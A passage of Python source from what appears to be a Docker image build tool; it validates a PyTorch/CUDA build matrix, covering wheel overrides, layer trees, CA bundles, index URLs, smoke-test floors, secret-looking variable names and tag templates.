        if workdir.rstrip("/") in ("", "/usr", "/etc", "/bin", "/lib", "/opt", "/var", "/tmp"):
            raise self.fail(f"workdir {workdir!r} is a system folder; it becomes the user's", merged.path("workdir"))
        return UserSpec(name, ids["uid"], ids["gid"], workdir)

    def overrides(self, top: dict[str, Any], combo: Combo, variant: Variant, label: str, where: Where,
                  index_url: str) -> tuple[tuple[tuple[str, str], ...], dict[str, str]]:
        """`nccl:`/`cudnn:` on an entry install that version of the nvidia wheel instead of torch's pin."""
        allow_raw, allow_path = self.cascaded(top, combo, "allow_major_override")
        if allow_raw is not None and not isinstance(allow_raw, bool):
            raise self.fail(f"expected true or false, got {_describe(allow_raw)}", allow_path)
        out: list[tuple[str, str]] = []
        resolved: dict[str, str] = {}
        for key, prefix in OVERRIDABLE.items():
            raw, path = self.cascaded(top, combo, key)
            if raw is None:
                continue
            version = self.scalar(raw, "libversion", path)
            pinned = [(name, ver) for name, ver in variant.packages if name.startswith(prefix)]
            if not pinned:
                raise InputError(f"{label}: `{key}: {version}` overrides nothing; torch {variant.torch}/"
                                 f"{variant.accelerator} installs no {prefix}* wheel", where=where)
            package, pin = pinned[0]
            if version.split(".")[0] != pin.split(".")[0] and allow_raw is not True:
                raise InputError(
                    f"{label}: {key} {version} crosses a major version from torch's pin {package}=={pin}",
                    where=where, hint="set `allow_major_override: true` on the entry if you mean it")
            asked = (index_url, package)
            if asked in self.facts.index_errors:
                self.warnings.append(f"{where}: could not check {package}=={version} on {index_url}: "
                                     f"{self.facts.index_errors[asked]}")
            elif asked in self.facts.index_versions:
                known = self.facts.index_versions[asked]
                if known is None or version not in known:
                    newest = ", ".join((known or [])[-4:]) or "none"
                    raise InputError(f"{label}: {package}=={version} does not exist on {index_url}",
                                     where=where, hint=f"newest there: {newest}")
            elif self.asking:
                self.index.add(asked)
            out.append((package, version))
            resolved[key] = version
        return tuple(out), resolved

    def choice(self, value: Any, allowed: tuple[str, ...], path: tuple[str | int, ...]) -> str:
        if value not in allowed:
            hint = did_you_mean(str(value), allowed) or f"one of: {', '.join(allowed)}"
            raise self.fail(f"unknown value {value!r}", path, hint=hint)
        return str(value)

    def resolve(self, torch: str, acc: str, python: str, label: str, where: Where) -> Variant:
        release = self.compat.release(torch)
        if release is None:
            known = [r.torch for r in self.compat.releases]
            near = did_you_mean(torch, known)
            raise InputError(
                f"{label}: torch {torch} is not in the compatibility table "
                f"({known[0] if known else '?'} .. {self.compat.newest()})",
                where=where, hint=near or "run `imagebuilder compat show` to list the known releases")
        variant = release.variant(acc)
        if variant is None:
            offered = ", ".join(v.accelerator for v in release.variants)
            raise InputError(
                f"{label}: torch {torch} publishes {offered}; not {acc}", where=where,
                hint="nearest supported: " + ", ".join(self.compat.nearest(torch, acc)))
        if not release.supports_python(python):
            offered = ", ".join(release.python) or release.requires_python or "?"
            raise InputError(f"{label}: torch {torch} supports Python {offered}; not {python}", where=where)
        return variant

    def layer_tree(self, raw: Any, path: tuple[str | int, ...]) -> tuple[LayerSpec, ...]:
        items = self.listof(raw, path, nonempty=True)
        specs: list[LayerSpec] = []
        previous: str | None = None
        for i, item in enumerate(items):
            ipath = (*path, i)
            if isinstance(item, str):
                layer = self.scalar(item, "layer", ipath)
                spec = LayerSpec(layer, layer, previous)
            else:
                m = self.mapping(item, ipath, ("layer", "name", "parent", "when"))
                if "layer" not in m:
                    raise self.fail("a layer mapping needs `layer:` (the folder name)", ipath)
                layer = self.scalar(m["layer"], "layer", (*ipath, "layer"))
                name = self.scalar(m.get("name", layer), "layer", (*ipath, "name"))
                parent = previous if "parent" not in m else (
                    None if m["parent"] is None else self.scalar(m["parent"], "layer", (*ipath, "parent")))
                spec = LayerSpec(name, layer, parent, self.when(m.get("when"), (*ipath, "when")))
            if any(s.name == spec.name for s in specs):
                raise self.fail(f"layer node {spec.name!r} appears twice; give one a distinct `name:`", ipath)
            specs.append(spec)
            previous = spec.name
        names = [s.name for s in specs]
        for i, spec in enumerate(specs):
            if spec.parent is not None and spec.parent not in names:
                raise self.fail(f"parent {spec.parent!r} of layer {spec.name!r} is not in this layer tree",
                                (*path, i), hint=did_you_mean(spec.parent, names))
        return tuple(_tree_order(specs, self.doc.where(path)))

    def when(self, raw: Any, path: tuple[str | int, ...]) -> tuple[tuple[str, tuple[str, ...]], ...]:
        """`when: {flavor: devel, accelerator: [cu*]}`: entry fields and the globs (one or a list) they match."""
        if raw is None:
            return ()
        m = self.mapping(raw, path, WHEN_FIELDS)
        out = []
        for name, value in m.items():
            globs = value if isinstance(value, list) else [value]
            if not globs:
                raise self.fail(f"`when: {name}` needs at least one value", (*path, name))
            out.append((name, tuple(self.scalar(g, "glob", (*path, name, i)) for i, g in enumerate(globs))))
        return tuple(sorted(out))

    def ca_variable(self) -> str | None:
        """The first of CA_ENV this environment sets: the CA bundle when the matrix names none."""
        return next((name for name in CA_ENV if self.env.get(name)), None)

    def build_settings(self, merged: Merged, variant: Variant) -> BuildSettings:
        ca: Path | None = None
        if merged.values.get("ca_bundle") is not None:
            ca = self.path_value(merged.values["ca_bundle"], merged.path("ca_bundle"), want_dir=False)
            self.ca_bundle(ca, f"CA bundle {merged.values['ca_bundle']!r}", merged.path("ca_bundle"))
        elif (name := self.ca_variable()) is not None:
            ca = Path(self.env[name])
            if not (ca.is_file() and os.access(ca, os.R_OK)):
                raise InputError(f"CA bundle {ca} from ${name} is not a readable file",
                                 where=self.doc.where(("build",)), hint="set build.ca_bundle, or unset the variable")
            self.ca_bundle(ca, f"CA bundle {ca} from ${name}", ("build",))
        wheelhouse = None
        if merged.values.get("wheelhouse") is not None:
            wheelhouse = self.path_value(merged.values["wheelhouse"], merged.path("wheelhouse"), want_dir=True)
        index_url = self.setting(merged, "build.index_url")
        piu = merged.values.get("pip_index_url")
        piu_path: tuple[str | int, ...] = merged.path("pip_index_url")
        if isinstance(piu, dict):
            piu = self.mapping(piu, piu_path, tuple(piu))
            piu_path = (*piu_path, variant.accelerator)
            piu = piu.get(variant.accelerator)
        if piu is None:
            torch_url = torch_index_url(variant)
        else:
            if not isinstance(piu, str):
                raise self.fail(f"expected a url value, got {_describe(piu)}", piu_path)
            unknown = sorted(set(re.findall(r"{([^{}]*)}", piu)) - {"accelerator"})
            if unknown and not grammar.has_credentials(piu):
                raise self.fail(f"unknown placeholder {{{unknown[0]}}} in {piu!r}; only {{accelerator}} is known",
                                piu_path)
            torch_url = self.url(piu, piu_path, ("accelerator",)).replace("{accelerator}", variant.accelerator)
        network = self.setting(merged, "build.network")
        toolkit = self.choice(merged.values.get("cuda_toolkit", schema.default("build.cuda_toolkit")), ("pip", "image"),
                              merged.path("cuda_toolkit"))
        return BuildSettings(ca, wheelhouse, torch_url, index_url, network, toolkit)

    def ca_bundle(self, path: Path, what: str, key: tuple[str | int, ...]) -> None:
        """A CA bundle goes into every image: PEM certificates only (`certs`), checked once per file."""
        if path in self.bundles:
            return
        try:
            with open(path, "rb") as handle:
                certs.certificates(handle.read(certs.MAX_BYTES + 1))
        except (OSError, certs.NotABundle) as exc:
            raise self.fail(f"{what} is not a CA bundle: {exc}", key,
                            hint="name a file of PEM certificates (-----BEGIN CERTIFICATE-----), such as "
                                 "/etc/ssl/certs/ca-certificates.crt") from None
        self.bundles.add(path)

    def smoke_settings(self, top: dict[str, Any], merged: Merged) -> SmokeSettings:
        timeout = int(self.setting(merged, "smoke.timeout"))
        shm = self.setting(merged, "smoke.shm_size")
        gpus = self.setting(merged, "smoke.gpus")
        driver_dir = self.setting(merged, "smoke.driver_dir")
        floor = float(self.bounded(merged, "smoke.throughput_floor", "a fraction of the GPU model's dense bf16 "
                                   "peak", hint="a slower GPU host still clears the lowest"))
        cpu_floor = float(self.bounded(merged, "smoke.cpu_gflops_floor", "GFLOP/s, where the check would pass a "
                                       "broken image", hint="benchmarks/results/cpu_floor.json"))
        raw_env = merged.values.get("env") or {}
        if not isinstance(raw_env, dict):
            raise self.fail(f"expected a mapping of variables, got {_describe(raw_env)}", merged.path("env"))
        env = []
        for k, v in sorted(raw_env.items()):
            if not re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]{0,127}", k):
                raise self.fail(f"invalid variable name {k!r}", (*merged.path("env"), k))
            self.not_a_secret(top, k, (*merged.path("env"), k))
            env.append((k, self.scalar(v, "var", (*merged.path("env"), k))))
        allow_skip = []
        for i, name in enumerate(self.listof(merged.values.get("allow_skip") or [], merged.path("allow_skip"))):
            if not isinstance(name, str) or not re.fullmatch(r"[A-Za-z0-9_.*?\[\]-]{1,128}", name):
                raise self.fail(f"expected a check name such as 'throughput' or 'versions.driver', got "
                                f"{_describe(name)}", (*merged.path("allow_skip"), i))
            allow_skip.append(name)
        raw_floors = merged.values.get("gpu_floors") or {}
        if not isinstance(raw_floors, dict):
            raise self.fail(f"expected a mapping of GPU name to TFLOP/s, got {_describe(raw_floors)}",
                            merged.path("gpu_floors"))
        gpu_floors = []
        for name, value in raw_floors.items():
            path = (*merged.path("gpu_floors"), name)
            if not isinstance(name, str) or not name.strip():
                raise self.fail(f"expected a GPU name, got {_describe(name)}", path)
            tflops = float(self.scalar(value, "float", path))
            if tflops <= 0:
                raise self.fail(f"floor {tflops:g} TFLOP/s for {name!r} must be above 0 (it is the bf16 matmul "
                                "throughput a GPU of this name must reach)", path)
            low, high = (float(b or 0) for b in schema.bounds("smoke.throughput_floor"))
            for model, peak in gpus_matching(name):  # every GPU the pattern matches, as the suite matches it
                if not low * peak <= tflops <= high * peak:
                    raise self.fail(f"floor {tflops:g} TFLOP/s for {name!r} is outside [{low * peak:g}, "
                                    f"{high * peak:g}] for {model}, which it matches: {low:g} to {high:g} of its dense "
                                    "bf16 peak, the bounds of throughput_floor", path,
                                    hint="name the GPU model in full (e.g. 'H100 PCIe'), one floor per model")
            gpu_floors.append((name, tflops))
        window = int(self.bounded(merged, "smoke.history_window", "the passes whose median is an image's "
                                  "performance baseline"))
        return SmokeSettings(timeout, shm, gpus, driver_dir, floor, cpu_floor, tuple(env), tuple(allow_skip),
                             tuple(gpu_floors), window)

    def not_a_secret(self, top: dict[str, Any], name: str, path: tuple[str | int, ...]) -> None:
        """Values of `vars` reach Dockerfiles (and so the image history), `smoke.env` the report: a name that
        looks like a secret is refused, unless the matrix lists it under `not_secrets:`."""
        allowed = self.listof(top.get("not_secrets") or [], ("not_secrets",))
        if looks_secret(name) and name not in allowed:
            raise self.fail(
                f"{name!r} looks like a secret; imagebuilder passes no secrets into images or reports", path,
                hint="docker-py's builder has no secret mounts, so a build value ends up in the image history: "
                     "give secrets to containers at run time; if it is not a secret, list it in `not_secrets:`")

    def tag_template(self, value: Any, path: tuple[str | int, ...]) -> str:
        """A tag template: its literal text (outside `{field}`s) may hold only what a Docker tag allows, so a
        bad character is named at its own key, not later in the tag it makes."""
        if not isinstance(value, str) or not value:
            raise self.fail(f"a tag template must be a string, got {_describe(value)}", path)
        literal = re.sub(r"{[A-Za-z0-9_]*}", "", value)
        if not re.fullmatch(r"[A-Za-z0-9_.-]*", literal):
            bad = "".join(sorted({ch for ch in literal if not re.fullmatch(r"[A-Za-z0-9_.-]", ch)}))
            raise self.fail(f"tag template {value!r} has characters Docker does not allow in a tag: {bad!r}", path,
                            hint="use letters, digits, '_', '.' and '-', and {fields}")
        return value

    def check_unique(self, entries: list[Entry]) -> None:
        seen: dict[str, Entry] = {}
        for e in entries:
            if e.id in seen:
                first = seen[e.id]
                same = first.versions() == e.versions() and first.layers == e.layers and first.build == e.build
                what = "duplicate entries" if same else "two entries share the id"
                raise InputError(f"{what} {e.id!r} (first from {first.where})", where=e.where,
                                 hint="remove one, or give one a distinct `name:` in its include")
            seen[e.id] = e


TOOLKIT_EXTRAS = "cccl,crt,nvcc,nvvm"  # cuda-toolkit's extras that make a working nvcc with CUDA C++ headers


def cuda_toolkit(variant: Variant, source: str) -> tuple[str, ...]:
    """What the devel flavor of a CUDA entry installs to build extensions, as pip requirements.

    `pip`: NVIDIA's `cuda-toolkit` wheels with nvcc, its front end (crt), NVVM and the CUDA C++ headers, at
    the exact toolkit version torch pins (else the entry's CUDA minor). NVIDIA ships the nvcc driver in
    wheels from CUDA 13 on; CUDA 12's nvidia-cuda-nvcc-cu12 holds only ptxas, so CUDA 12 entries need
    `image` (a base image that already has nvcc, such as nvidia/cuda:*-devel): nothing is installed and
    the build checks that the image's nvcc is the entry's CUDA."""
    if not variant.cuda or source == "image":
        return ()
    pins = dict(variant.packages)
    version = pins.get("cuda-toolkit") or ".".join(variant.cuda.split(".")[:2]) + ".*"
    return (f"cuda-toolkit[{TOOLKIT_EXTRAS}]=={version}",)


def _tree_order(specs: list[LayerSpec], where: Where) -> list[LayerSpec]:
    """Parents before children, keeping the written order otherwise; a cycle is an input error."""
    by_name = {s.name: s for s in specs}
    done: list[LayerSpec] = []
    state: dict[str, int] = {}

    def visit(spec: LayerSpec, trail: list[str]) -> None:
        if state.get(spec.name) == 2:
            return
        if state.get(spec.name) == 1:
            cycle = " -> ".join([*trail[trail.index(spec.name):], spec.name])
            raise InputError(f"the layer tree has a cycle: {cycle}", where=where)
        state[spec.name] = 1
        if spec.parent is not None:
            visit(by_name[spec.parent], [*trail, spec.name])
        state[spec.name] = 2
        done.append(spec)

    for spec in specs:
        visit(spec, [])
    if not any(s.parent is None for s in specs):
        raise InputError("the layer tree has no root (every layer names a parent)", where=where)
    return done


def _describe(value: Any) -> str:
    if value is None:
        return "nothing"
    if isinstance(value, bool):
        return f"boolean {str(value).lower()}"
    if isinstance(value, dict):
        return "a mapping"
    if isinstance(value, list):
        return "a list"
    return repr(value)


def _label(combo: Mapping[str, Any]) -> str:
    return ", ".join(f"{k}={v}" for k, v in combo.items() if not isinstance(v, (dict, list)))
